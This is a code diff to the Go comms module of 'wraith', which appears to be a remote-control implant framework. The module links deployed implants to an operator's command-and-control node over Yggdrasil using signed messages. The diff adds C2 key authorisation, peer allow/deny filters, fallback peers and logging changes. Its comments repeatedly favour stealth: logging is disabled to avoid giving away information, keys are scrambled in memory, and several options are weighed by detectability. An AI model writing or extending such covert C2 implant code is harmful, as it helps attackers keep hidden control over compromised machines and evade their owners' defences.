@@ -4,8 +4,10 @@ import (
 	"bytes"
 	"context"
 	"crypto/ed25519"
+	"encoding/hex"
 	"fmt"
 	"io"
+	"log/slog"
 	"math/rand"
 	"net"
 	"net/http"
@@ -17,14 +19,22 @@ import (
 	"time"
 
 	"dev.l1qu1d.net/wraith-labs/wraith/libwraith"
-	"dev.l1qu1d.net/wraith-labs/wraith_module_comosum/internal/radio"
+	"dev.l1qu1d.net/wraith-labs/wraith_module_comosum/radio"
 	"github.com/awnumar/memguard"
-	"github.com/gologme/log"
 	"github.com/yggdrasil-network/yggdrasil-go/src/address"
 )
 
 const (
 	MOD_NAME = "w.comosum"
+
+	// The SHM cell holding the history of this module's Yggdrasil peerings,
+	// so the operator can find out why it was unreachable.
+	SHM_PEER_HISTORY = MOD_NAME + ".peers"
+
+	// The SHM cell to put a radio.PeerFilter in to change which Yggdrasil
+	// nodes may peer with this module inbound, replacing AllowedPeers and
+	// DeniedPeers. Failures to apply it are reported in libwraith.SHM_ERRS.
+	SHM_PEER_FILTER = MOD_NAME + ".peerfilter"
 )
 
 // A comms module implementation which utilises signed CBOR messages to remotely
@@ -52,6 +62,15 @@ type ModuleComosum struct {
 	// of the matching private key will be able to set up a C2 yggdrasil node.
 	AdminPubKey ed25519.PublicKey
 
+	// The public key of the C2 yggdrasil node, if it is not the admin key.
+	// This allows the admin key to stay offline while the C2 node only holds
+	// its own identity. Must be set together with C2Authorization.
+	C2PubKey ed25519.PublicKey
+
+	// The admin key's signature authorising C2PubKey, as produced by
+	// radio.AuthorizeNode.
+	C2Authorization []byte
+
 	// The private key that should be used for this instance of Comosum on
 	// the Yggdrasil network. This MUST NOT be hardcoded and MUST instead
 	// be generated at runtime to prevent clashes. The key is an argument
@@ -72,6 +91,16 @@ type ModuleComosum struct {
 	// improve its chances of successfully connecting to C2.
 	Listen []string
 
+	// If not empty, only the Yggdrasil nodes with these public keys may
+	// peer with Comosum through its listeners or multicast. This keeps
+	// strangers from using the Wraith as a relay.
+	AllowedPeers []ed25519.PublicKey
+
+	// Yggdrasil nodes which may never peer with Comosum inbound, even if
+	// they are in AllowedPeers. Both lists can be changed at runtime through
+	// the SHM_PEER_FILTER cell.
+	DeniedPeers []ed25519.PublicKey
+
 	// Whether or not Comosum should use multicast to find other Comosum
 	// Wraiths on the local network. Setting this makes the Wraith more detectable
 	// but might improve its chances of successfully connecting to C2.
@@ -84,9 +113,22 @@ type ModuleComosum struct {
 	// and higher chances of detection.
 	StaticPeers []string
 
-	// Enable some debugging features like logging and the admin endpoint. DO NOT
-	// leave enabled in deployed instances. To disable, use "none".
+	// Peers to try, in order, while none of StaticPeers are up. They are
+	// dropped again once a static peer is back.
+	FallbackPeers []string
+
+	// The most peers Comosum may have configured at once, static peers
+	// included. Zero means one more than the number of static peers.
+	MaxPeers int
+
+	// Enable some debugging features like logging. DO NOT leave enabled in
+	// deployed instances. To disable, use "none".
 	Debug string
+
+	// Where to open the Yggdrasil admin socket, such as
+	// unix:///tmp/comosum.sock. Empty or "none" disables it. Like Debug, DO
+	// NOT set this in deployed instances.
+	AdminListen string
 }
 
 func (m *ModuleComosum) Mainloop(ctx context.Context, w *libwraith.Wraith) {
@@ -112,18 +154,29 @@ func (m *ModuleComosum) Mainloop(ctx context.Context, w *libwraith.Wraith) {
 	if keylen := len(m.AdminPubKey); keylen != ed25519.PublicKeySize {
 		panic(fmt.Errorf("[%s] incorrect admin key size (is %d, should be %d)", MOD_NAME, keylen, ed25519.PublicKeySize))
 	}
+	// Work out which node C2 lives on. Without a separate C2 key, it's the
+	// one using the admin key as its identity.
+	c2PubKey := m.AdminPubKey
+	if m.C2PubKey != nil || m.C2Authorization != nil {
+		if !radio.VerifyNodeAuthorization(m.AdminPubKey, m.C2PubKey, m.C2Authorization) {
+			panic(fmt.Errorf("[%s] C2 key is not authorised by the admin key", MOD_NAME))
+		}
+		c2PubKey = m.C2PubKey
+	}
 	// Who's your daddy?
-	daddyIP := memguard.NewEnclave(net.IP(address.AddrForKey(m.AdminPubKey)[:]).To16())
+	daddyIP := memguard.NewEnclave(net.IP(address.AddrForKey(c2PubKey)[:]).To16())
 	daddyPubKey := memguard.NewEnclave(m.AdminPubKey)
 	memguard.ScrambleBytes(m.AdminPubKey)
+	memguard.ScrambleBytes(m.C2PubKey)
+	memguard.ScrambleBytes(m.C2Authorization)
 
 	var err error
 
 	// Disable Yggdrasil logging unless debug mode is enabled - we don't
 	// want to give away any info.
-	logger := log.New(io.Discard, "", log.Flags())
+	logger := radio.DiscardLogger()
 	if m.Debug != "none" {
-		logger = log.New(os.Stdout, MOD_NAME, log.Flags())
+		logger = slog.New(slog.NewTextHandler(os.Stdout, &slog.HandlerOptions{Level: slog.LevelDebug})).With("module", MOD_NAME)
 	}
 
 	//
@@ -131,10 +184,28 @@ func (m *ModuleComosum) Mainloop(ctx context.Context, w *libwraith.Wraith) {
 	//
 
 	// Set up Yggdrasil.
+	filter := radio.PeerFilter{}
+	for _, key := range m.AllowedPeers {
+		filter.Allow = append(filter.Allow, hex.EncodeToString(key))
+	}
+	for _, key := range m.DeniedPeers {
+		filter.Deny = append(filter.Deny, hex.EncodeToString(key))
+	}
 	n := radio.NewNode(logger)
-	n.GenerateConfig(m.Listen, m.StaticPeers, m.Debug)
+	err = n.GenerateConfig(radio.NodeOptions{
+		PrivateKey:        m.OwnPrivKey,
+		Listen:            m.Listen,
+		Peers:             m.StaticPeers,
+		AllowedPublicKeys: filter.Allow,
+		DeniedPublicKeys:  filter.Deny,
+		Multicast:         radio.MulticastConfig{Enabled: m.UseMulticast},
+		AdminListen:       m.AdminListen,
+	})
+	if err != nil {
+		panic(fmt.Errorf("[%s] invalid Yggdrasil configuration: %w", MOD_NAME, err))
+	}
 	if err = n.Run(); err != nil {
-		logger.Fatalln(err)
+		panic(fmt.Errorf("[%s] failed to start Yggdrasil node: %w", MOD_NAME, err))
 	}
 
 	addr, _ := n.Address()
@@ -289,11 +360,48 @@ func (m *ModuleComosum) Mainloop(ctx context.Context, w *libwraith.Wraith) {
 	}
 
 	if m.Debug != "none" {
-		logger.Info(fmt.Printf("management API listening on http://[%s]:%d\n", addr.String(), port))
+		logger.Info("management API listening", "url", fmt.Sprintf("http://[%s]:%d", addr.String(), port))
 	}
 
 	var wg sync.WaitGroup
-	wg.Add(2)
+	wg.Add(4)
+
+	// Peer supervisor.
+	go func() {
+		defer wg.Done()
+
+		radio.NewPeerSupervisor(n, radio.PeerSupervisorOptions{
+			Fallback: m.FallbackPeers,
+			MaxPeers: m.MaxPeers,
+			OnHistory: func(history []radio.PeerHistoryEntry) {
+				w.SHMSet(SHM_PEER_HISTORY, history)
+			},
+		}).Run(ctx)
+	}()
+
+	// Peer filter reloads.
+	go func() {
+		defer wg.Done()
+
+		updates, watchId := w.SHMWatch(SHM_PEER_FILTER)
+		defer w.SHMUnwatch(SHM_PEER_FILTER, watchId)
+
+		for {
+			select {
+			case <-ctx.Done():
+				return
+			case value := <-updates:
+				filter, ok := value.(radio.PeerFilter)
+				if !ok {
+					w.SHMSet(libwraith.SHM_ERRS, fmt.Errorf("[%s] %s does not hold a peer filter", MOD_NAME, SHM_PEER_FILTER))
+					continue
+				}
+				if err := n.SetPeerFilter(filter); err != nil {
+					w.SHMSet(libwraith.SHM_ERRS, fmt.Errorf("[%s] failed to set peer filter: %w", MOD_NAME, err))
+				}
+			}
+		}
+	}()
 
 	go func() {
 		defer wg.Done()
@@ -385,6 +493,7 @@ func (m *ModuleComosum) Mainloop(ctx context.Context, w *libwraith.Wraith) {
 
 	server.Close()
 	tcpListener.Close()
+	s.Close()
 	n.Close()
 
 	// Block until all goroutines have exited.